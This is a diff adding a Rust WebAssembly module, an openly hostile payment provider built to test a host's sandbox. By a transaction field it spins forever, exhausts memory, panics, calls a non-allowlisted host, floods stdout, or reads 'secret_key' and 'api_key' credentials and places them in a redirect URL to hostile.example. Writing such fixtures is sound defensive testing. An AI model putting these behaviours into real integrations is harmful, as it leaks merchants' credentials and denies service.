@@ -1,0 +1,103 @@
+//! A payment provider that misbehaves on request, for the host's sandbox tests.
+//!
+//! `create-session` picks its behaviour from the transaction's `document-model`:
+//! `loop` spins forever, `alloc` allocates without bound, `panic` traps, `forbidden-host`
+//! calls a host that is not on its allowlist, `read-secret` tries to read a secret
+//! credential, `print-flood` writes megabytes to stdout, `leak-credential` returns the plain
+//! `api_key` credential it can see (for the company-isolation test). Anything else answers a
+//! normal redirect. Never shipped as a module.
+
+wit_bindgen::generate!({
+    world: "payment-provider",
+    path: "../../../wit",
+});
+
+use exports::integrations::provider::payment::{Guest, ParsedWebhook, RefundResult};
+use integrations::provider::http::{self, Method, Request};
+use integrations::provider::types::{
+    ErrorKind, GatewayUpdate, IntegrationType, Money, ProviderError, Session, SessionAction,
+    Transaction, Verification, WebhookRequest,
+};
+use integrations::provider::credentials;
+
+struct Hostile;
+
+impl Guest for Hostile {
+    fn validate_credentials() -> Result<(), ProviderError> {
+        Ok(())
+    }
+
+    fn create_session(transaction: Transaction, _kind: IntegrationType) -> Result<Session, ProviderError> {
+        let behaviour = transaction.document_model.clone().unwrap_or_default();
+        let url = match behaviour.as_str() {
+            "loop" => {
+                let mut n: u64 = 0;
+                loop {
+                    n = std::hint::black_box(n.wrapping_add(1));
+                }
+            }
+            "alloc" => {
+                let mut hoard: Vec<Vec<u8>> = Vec::new();
+                loop {
+                    hoard.push(std::hint::black_box(vec![1u8; 1 << 20]));
+                }
+            }
+            "panic" => panic!("the hostile provider panics on purpose"),
+            "forbidden-host" => {
+                let target = transaction.contact.and_then(|c| c.name).unwrap_or_default();
+                let request = Request { method: Method::Get, url: target, headers: vec![], body: None };
+                match http::send(&request) {
+                    Ok(response) => format!("https://hostile.example/reached/{}", response.status),
+                    Err(e) => return Err(failure(format!("outbound request refused: {e:?}"))),
+                }
+            }
+            "read-secret" => match credentials::get("secret_key") {
+                Ok(Some(value)) => format!("https://hostile.example/stolen/{value}"),
+                other => return Err(failure(format!("secret not readable: {other:?}"))),
+            },
+            "print-flood" => {
+                let line = "x".repeat(1023);
+                for _ in 0..4096 {
+                    println!("{line}");
+                }
+                format!("https://hostile.example/printed/{}", transaction.reference)
+            }
+            "leak-credential" => match credentials::get("api_key") {
+                Ok(Some(value)) => format!("https://hostile.example/seen/{value}"),
+                other => return Err(failure(format!("api_key not readable: {other:?}"))),
+            },
+            _ => format!("https://hostile.example/pay/{}", transaction.reference),
+        };
+        Ok(Session { gateway_reference: Some(format!("h_{}", transaction.reference)), action: SessionAction::Redirect(url), provider_data: None })
+    }
+
+    fn verify_webhook(_request: WebhookRequest) -> Result<Verification, ProviderError> {
+        Ok(Verification::Rejected("the hostile provider accepts no webhooks".into()))
+    }
+
+    fn parse_webhook(_request: WebhookRequest) -> Result<ParsedWebhook, ProviderError> {
+        Err(failure("no webhooks".into()))
+    }
+
+    fn process_return(_t: Transaction, _p: Vec<(String, String)>) -> Result<GatewayUpdate, ProviderError> {
+        Err(failure("no returns".into()))
+    }
+
+    fn refund(_t: Transaction, _a: Money) -> Result<RefundResult, ProviderError> {
+        Err(failure("no refunds".into()))
+    }
+
+    fn sync(_t: Transaction) -> Result<GatewayUpdate, ProviderError> {
+        Err(failure("no sync".into()))
+    }
+
+    fn client_config() -> Result<String, ProviderError> {
+        Ok("{}".into())
+    }
+}
+
+export!(Hostile);
+
+fn failure(message: String) -> ProviderError {
+    ProviderError { kind: ErrorKind::Internal, message, retryable: false }
+}
